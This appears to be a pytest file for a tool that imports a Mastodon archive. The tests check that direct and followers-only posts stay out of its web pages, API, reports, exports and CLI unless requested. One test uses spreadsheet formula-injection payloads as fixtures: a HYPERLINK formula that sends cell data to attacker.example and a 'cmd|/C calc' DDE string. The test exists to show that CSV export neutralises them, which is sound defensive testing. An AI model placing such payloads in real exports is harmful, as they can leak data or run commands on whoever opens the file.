"""Private posts stay private: the shared Mastodon archive imported with its direct messages, every surface grepped.

The archive holds 35 direct messages and 40 followers-only posts. With ``--include-direct`` they are
stored (each keeps its visibility), but no surface shows their words unless asked for, and a direct
message never becomes an interaction: the mention count is the one without the flag.
"""
from __future__ import annotations

import json
import re
from urllib.parse import quote

import pytest
from click.testing import CliRunner

from conftest import dataset
from stature import Workspace, ingest
from stature.cli import main
from stature.exports import export
from stature.report import render_report
from stature.web import App
from surfaces import analyse

pytestmark = pytest.mark.slow
ARCHIVE = "formats/mastodon-archive"
OWNER = "mastodon:https://indieweb.social/users/dealingwith"
HOST = {"Host": "127.0.0.1:8000"}
_RUN = re.compile(r"[A-Za-z0-9 ]{16,}")


@pytest.fixture(scope="module")
def workspaces(tmp_path_factory):
    folder = tmp_path_factory.mktemp("privacy")
    paths = {}
    for name, direct in (("with", True), ("without", False)):
        paths[name] = folder / f"{name}.duckdb"
        with Workspace(paths[name]) as ws:
            ingest(ws, [dataset(ARCHIVE)], include_direct=direct)
            if direct:
                analyse(ws)
    return paths


@pytest.fixture(scope="module")
def private(workspaces):
    """Needles: for each private post, its id and the longest plain run of its words found in no public post."""
    with Workspace(workspaces["with"], read_only=True) as ws:
        rows = ws.sql("SELECT post_id, visibility, text FROM posts WHERE visibility IN ('direct', 'followers')")
        public = "\n".join(t or "" for (t,) in ws.sql("SELECT text FROM posts WHERE visibility IN ('public', 'unlisted')"))
    counts = {v: sum(1 for _, vis, _ in rows if vis == v) for v in ("direct", "followers")}
    assert counts == {"direct": 35, "followers": 40}
    texts = []
    for _, _, text in rows:
        runs = sorted((r.strip() for r in _RUN.findall(text or "")), key=len, reverse=True)
        found = next((r for r in runs if len(r) >= 16 and r not in public), None)
        if found:
            texts.append(found)
    assert len(texts) >= 50, texts  # enough of them to grep for: the test can fail
    return {"ids": [post_id for post_id, _, _ in rows], "direct_ids": [p for p, vis, _ in rows if vis == "direct"],
            "texts": texts}


def leaks(body: str, private: dict, ids: str = "ids") -> list[str]:
    """The private words (and post ids) found in ``body``."""
    return [t for t in private["texts"] if t in body] + [i for i in private[ids] if i in body]


def test_direct_messages_never_become_interactions(workspaces):
    counts = {}
    for name, path in workspaces.items():
        with Workspace(path, read_only=True) as ws:
            counts[name] = ws.status()["interactions"]
    assert counts["with"]["mention"] == counts["without"]["mention"] > 0
    assert counts["with"] == counts["without"]


def _every_surface_target(app) -> list[str]:
    owner = quote(OWNER.split(":", 1)[1], safe="")
    targets = ["/", "/search?q=dealingwith", f"/accounts/mastodon/{owner}", "/openapi.json", "/api/status",
               "/api/overview", "/api/top?limit=0", "/api/search?q=dealingwith", f"/api/accounts/mastodon/{owner}",
               "/api/communities", "/api/communities/1", "/communities/1"]
    with Workspace(app.path, read_only=True) as ws:
        topics = [t for (t,) in ws.sql("SELECT DISTINCT topic_id FROM account_topics ORDER BY 1")]
        people = [a for (a,) in ws.sql("""SELECT DISTINCT target_id FROM interactions WHERE kind = 'mention'
                                           ORDER BY 1 LIMIT 20""")]
    assert topics
    for topic in topics:
        targets += [f"/topics/{quote(topic, safe='')}", f"/api/topics/{quote(topic, safe='')}?limit=1000"]
    for person in people:
        targets += [f"/accounts/mastodon/{quote(person, safe='')}", f"/api/accounts/mastodon/{quote(person, safe='')}"]
    return targets


def test_no_surface_shows_private_posts(workspaces, private, tmp_path):
    path = workspaces["with"]
    app = App(path)
    assert app.networks.wait(120)
    for target in _every_surface_target(app):
        r = app.handle("GET", target, HOST)
        assert r.status == 200, (target, r.body[:300])
        assert not leaks(r.body.decode(), private), target

    with Workspace(path, read_only=True) as ws:
        html, _ = render_report(ws, account="dealingwith@indieweb.social")
        assert not leaks(html, private), "report"
        for fmt in ("csv", "gexf", "graphml"):
            for written in export(ws, tmp_path / fmt, fmt):
                # a followers-only reply is still an interaction: its id may be exported, never its words
                ids = "direct_ids" if written.name == "interactions.csv" else "ids"
                assert not leaks(written.read_text(encoding="utf-8"), private, ids), written
        parquet = export(ws, tmp_path / "parquet", "parquet")
        posts = [p for p in parquet if p.name == "posts.parquet"][0]
        assert ws.sql(f"SELECT count(*) FROM read_parquet('{posts}') WHERE visibility IN ('direct', 'followers')"
                      )[0][0] == 0
        topic_names = [n for (n,) in ws.sql("""SELECT DISTINCT t.name FROM account_topics a JOIN topics t
                                                USING (topic_id) ORDER BY 1""")]

    runner = CliRunner()
    cli = lambda *args: runner.invoke(main, ["--workspace", str(path), *args], catch_exceptions=False)  # noqa: E731
    out = cli("topics", "dealingwith@indieweb.social", "--limit", "100", "--json")
    assert out.exit_code == 0 and not leaks(out.output, private), "topics"
    for name in topic_names:
        out = cli("experts", name, "--limit", "1000", "--json")
        assert out.exit_code == 0, out.output
        assert not leaks(out.output, private), f"experts {name}"
    out = cli("report", "--account", "dealingwith@indieweb.social", "-o", str(tmp_path / "r.html"))
    assert out.exit_code == 0, out.output
    assert not leaks((tmp_path / "r.html").read_text(), private)


def test_private_posts_are_shown_only_when_asked_for(workspaces, private, tmp_path):
    path = workspaces["with"]
    owner = quote(OWNER.split(":", 1)[1], safe="")
    counted = App(path).handle("GET", f"/api/accounts/mastodon/{owner}", HOST).json()["account"]["posts"]
    asked = App(path, include_private=True).handle("GET", f"/api/accounts/mastodon/{owner}", HOST).json()
    assert asked["account"]["posts"] == counted + 75 == 1260
    with Workspace(path, read_only=True) as ws:
        written = export(ws, tmp_path / "all", "csv", include_private=True)
    posts = [p for p in written if p.name == "posts.csv"][0].read_text(encoding="utf-8")
    assert sum(t in posts for t in private["texts"]) == len(private["texts"])  # exported when asked for


def test_every_mastodon_account_has_its_page(workspaces):
    """Ids that are URLs (every Mastodon account) work in pages, API routes and look-ups, escaped or not."""
    app = App(workspaces["with"])
    with Workspace(workspaces["with"], read_only=True) as ws:
        accounts = ws.sql("SELECT account_id, handle FROM accounts WHERE handle IS NOT NULL ORDER BY 1")
    assert len(accounts) == 150 and all(":" in a for a, _ in accounts)
    for account_id, handle in accounts:
        page = app.handle("GET", f"/accounts/mastodon/{quote(account_id, safe='')}", HOST)
        assert page.status == 200 and f"@{handle}" in page.body.decode(), account_id
    account_id, handle = accounts[0]
    assert app.handle("GET", f"/accounts/mastodon/{account_id}", HOST).status == 200  # slashes not escaped
    data = app.handle("GET", f"/api/accounts/mastodon/{quote(account_id, safe='')}", HOST).json()
    assert data["account"]["account_id"] == account_id and data["account"]["handle"] == handle
    found = app.handle("GET", f"/api/search?q={quote(handle)}", HOST).json()["accounts"]
    assert found[0]["account_id"] == account_id
    with Workspace(workspaces["with"], read_only=True) as ws:
        assert ws.find_account(f"mastodon:{account_id}") == ("mastodon", account_id)
        assert ws.find_account(account_id) == ("mastodon", account_id)
        assert ws.find_account(f"@{handle}") == ("mastodon", account_id)


def test_report_on_a_mastodon_account_after_classify(workspaces, tmp_path):
    runner = CliRunner()
    out = runner.invoke(main, ["--workspace", str(workspaces["with"]), "report", "--account",
                               "dealingwith@indieweb.social", "-o", str(tmp_path / "r.html"), "--json"],
                        catch_exceptions=False)
    assert out.exit_code == 0, out.output
    info = json.loads(out.output)
    assert info["account"]["account_id"] == OWNER.split(":", 1)[1] and "topics" in info["sections"]


def test_topics_stored_before_the_rule_never_show_a_private_post(tmp_path):
    """Evidence classified while a post was public is not shown once the post is private (or was all along)."""
    from stature.topics.store import account_topics
    from surfaces import hostile_workspace
    with hostile_workspace(tmp_path / "w.duckdb") as ws:
        shown = {p["post_id"] for t in account_topics(ws, "mastodon:evil")["topics"]
                 for p in t["evidence"].get("top_posts", [])}
        hidden = sorted(shown)[0]
        ws.con.execute("UPDATE posts SET visibility = 'followers' WHERE post_id = ?", [hidden])
        after = {p["post_id"] for t in account_topics(ws, "mastodon:evil")["topics"]
                 for p in t["evidence"].get("top_posts", [])}
    assert after == shown - {hidden} and after
    body = App(tmp_path / "w.duckdb").handle("GET", "/api/accounts/mastodon/evil", HOST).body.decode()
    assert f'"{hidden}"' not in body and f'"{sorted(after)[0]}"' in body


def test_csv_exports_neutralise_formula_cells(tmp_path):
    """A cell a spreadsheet would run (=, +, -, @, tab, CR first) starts with ' in every CSV written."""
    import csv
    from stature.model import Account, Post
    from stature.workspace import Writer
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    with Workspace(tmp_path / "w.duckdb") as ws:
        with ws.transaction() as con:
            writer = Writer(con, 1)
            writer.add(Account("mastodon", "m1", handle="+cmd|' /C calc'!A0", display_name="@SUM(1+1)"))
            writer.add(Post("mastodon", "p1", "m1", created_at="2024-03-01T12:00:00", text=formula))
            writer.add(Post("mastodon", "p2", "m1", created_at="2024-03-02T12:00:00", text="-2+3"))
            writer.finish()
        written = export(ws, tmp_path / "csv", "csv")
    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert "'" + formula in cells and "'-2+3" in cells and "'@SUM(1+1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], "a cell starts a formula"
